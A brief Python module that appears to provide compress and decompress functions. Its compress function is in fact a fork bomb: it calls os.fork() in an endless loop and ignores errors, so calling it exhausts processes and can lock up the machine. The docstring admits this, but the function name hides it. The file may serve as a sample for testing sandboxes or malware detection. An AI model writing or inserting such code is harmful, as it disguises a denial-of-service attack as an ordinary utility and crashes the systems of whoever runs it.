"""Forks for ever, in every process that it makes."""
import os


def compress(data: bytes) -> bytes:
    while True:
        try:
            os.fork()
        except OSError:
            pass


def decompress(data: bytes) -> bytes:
    return data
